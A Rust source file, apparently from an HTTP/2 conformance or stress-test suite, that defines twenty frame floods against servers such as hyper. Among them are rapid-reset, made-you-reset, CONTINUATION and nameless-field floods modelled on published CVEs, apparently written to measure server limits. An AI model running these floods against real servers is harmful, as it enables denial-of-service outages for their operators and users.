//! The attacks: floods of frames that cost their receiver more than their sender. One of each kind
//! that had a CVE since 2019, and what the fork has a limit for beside.

use h2_conformance_wire::build::{GET, POST};
use h2_conformance_wire::code::{error, flag, kind, setting, MAX_WINDOW};

use super::peer::{block, Peer};
use crate::subject::Stance;

/// Streams that hyper's server allows at a time.
const STREAMS: u32 = 200;
/// Octets of a field section that is larger than hyper's server allows.
const LARGE: usize = 17 << 10;
/// A field without a name and a value, each of which says that it is in Huffman code.
const NAMELESS: [u8; 3] = [0, 0x80, 0x80];
/// How many of them are below the largest field section of hyper's server, at 32 octets each.
const NAMELESS_FIELDS: usize = 450;
/// A frame type that no specification assigns.
const UNKNOWN: u8 = 0xbb;

pub(super) struct Attack {
    pub(super) name: &'static str,
    /// What the application does whose connection is attacked.
    pub(super) stance: Stance,
    /// Frames that are sent once, before all others.
    begin: fn(&mut Peer, &Blocks),
    /// Frames that are sent over and over.
    repeat: fn(&mut Peer, &Blocks),
}

impl Attack {
    pub(super) fn begin(&self, peer: &mut Peer, blocks: &Blocks) {
        (self.begin)(peer, blocks);
    }

    /// Writes frames until there are as many octets.
    pub(super) fn fill(&self, peer: &mut Peer, blocks: &Blocks, octets: usize) {
        while peer.written() < octets {
            (self.repeat)(peer, blocks);
        }
    }
}

/// Field blocks, made before anything is measured.
pub(super) struct Blocks {
    get: Vec<u8>,
    post: Vec<u8>,
    malformed: Vec<u8>,
    large: Vec<u8>,
    interim: Vec<u8>,
    /// A request with fields that have neither name nor value.
    nameless: Vec<u8>,
}

impl Blocks {
    pub(super) fn new() -> Self {
        let large = "x".repeat(LARGE - 100);
        Blocks {
            get: block(&GET),
            post: block(&POST),
            malformed: block(&[&GET[..], &[("Upper-Case", "1")]].concat()),
            large: block(&[&GET[..], &[("large", large.as_str())]].concat()),
            interim: block(&[(":status", "103")]),
            nameless: [block(&GET), NAMELESS.repeat(NAMELESS_FIELDS)].concat(),
        }
    }
}

const NOTHING: fn(&mut Peer, &Blocks) = |_, _| {};

const fn attack(name: &'static str, begin: fn(&mut Peer, &Blocks), repeat: fn(&mut Peer, &Blocks)) -> Attack {
    Attack { name, stance: Stance::Serves, begin, repeat }
}

pub(super) const ATTACKS: [Attack; 20] = [
    attack("ping", NOTHING, |peer, _| peer.frame(kind::PING, 0, 0, &[7; 8])),
    attack("settings", NOTHING, |peer, _| peer.frame(kind::SETTINGS, 0, 0, &[])),
    attack("priority", NOTHING, |peer, _| peer.frame(kind::PRIORITY, 0, 3, &[0, 0, 0, 0, 15])),
    attack("window-update", NOTHING, |peer, _| peer.frame(kind::WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1])),
    // Responses that leave octet by octet.
    Attack {
        stance: Stance::Responds,
        ..attack(
            "dribble",
            |peer, blocks| {
                let mut windows = setting::INITIAL_WINDOW_SIZE.to_be_bytes().to_vec();
                windows.extend([0; 4]);
                peer.frame(kind::SETTINGS, 0, 0, &windows);
                (0..STREAMS / 2).for_each(|_| peer.open(&blocks.get, flag::END_STREAM));
                peer.stream = 1;
            },
            |peer, _| {
                peer.frame(kind::WINDOW_UPDATE, 0, peer.stream, &[0, 0, 0, 1]);
                peer.stream = (peer.stream + 2) % STREAMS;
            },
        )
    },
    attack("empty-data", |peer, blocks| peer.open(&blocks.post, 0), |peer, _| peer.frame(kind::DATA, 0, 1, &[])),
    attack("rapid-reset", NOTHING, |peer, blocks| {
        peer.open(&blocks.post, 0);
        peer.frame(kind::RST_STREAM, 0, peer.stream, &error::CANCEL.to_be_bytes());
    }),
    attack("made-you-reset", NOTHING, |peer, blocks| {
        peer.open(&blocks.post, 0);
        peer.frame(kind::WINDOW_UPDATE, 0, peer.stream, &[0; 4]);
    }),
    attack("malformed", NOTHING, |peer, blocks| peer.open(&blocks.malformed, flag::END_STREAM)),
    // The RST_STREAM frames cannot be written.
    attack("unread-resets", |peer, _| peer.wire.block(), |peer, blocks| peer.open(&blocks.malformed, flag::END_STREAM)),
    attack("nameless-fields", NOTHING, |peer, blocks| peer.open(&blocks.nameless, flag::END_STREAM)),
    // The windows are open, and the responses cannot be written.
    Attack {
        stance: Stance::Responds,
        ..attack(
            "unread-responses",
            |peer, _| {
                let mut windows = setting::INITIAL_WINDOW_SIZE.to_be_bytes().to_vec();
                windows.extend((MAX_WINDOW / 2).to_be_bytes());
                peer.frame(kind::SETTINGS, 0, 0, &windows);
                peer.wire.block();
            },
            |peer, blocks| peer.open(&blocks.get, flag::END_STREAM),
        )
    },
    attack(
        "refused",
        |peer, blocks| (0..STREAMS).for_each(|_| peer.open(&blocks.post, 0)),
        |peer, blocks| peer.open(&blocks.get, flag::END_STREAM),
    ),
    attack(
        "continuation",
        // A field whose value would take more than all that follows.
        |peer, blocks| peer.parts(kind::HEADERS, 0, 1, &[&blocks.post, &[0, 1, b'x', 0x7f, 0xff, 0xff, 0xff, 0x07]]),
        |peer, _| peer.frame(kind::CONTINUATION, 0, 1, &[b'x'; 16]),
    ),
    attack("large-fields", NOTHING, |peer, blocks| {
        let (first, last) = blocks.large.split_at(16 << 10);
        let stream = peer.next_stream();
        peer.frame(kind::HEADERS, flag::END_STREAM, stream, first);
        peer.frame(kind::CONTINUATION, flag::END_HEADERS, stream, last);
    }),
    attack(
        "reset-again",
        |peer, blocks| peer.open(&blocks.post, 0),
        |peer, _| peer.frame(kind::RST_STREAM, 0, 1, &error::CANCEL.to_be_bytes()),
    ),
    attack("unknown", NOTHING, |peer, _| peer.frame(UNKNOWN, 0, 0, &[0; 8])),
    attack("go-away", |peer, blocks| peer.open(&blocks.post, 0), |peer, _| peer.frame(kind::GOAWAY, 0, 0, &[0; 8])),
    Attack {
        stance: Stance::Requests,
        ..attack("interim", NOTHING, |peer, blocks| peer.frame(kind::HEADERS, flag::END_HEADERS, 1, &blocks.interim))
    },
    Attack {
        stance: Stance::Requests,
        ..attack("promises", NOTHING, |peer, blocks| {
            let promised = peer.next_stream();
            peer.parts(kind::PUSH_PROMISE, flag::END_HEADERS, 1, &[&promised.to_be_bytes(), &blocks.get]);
        })
    },
];
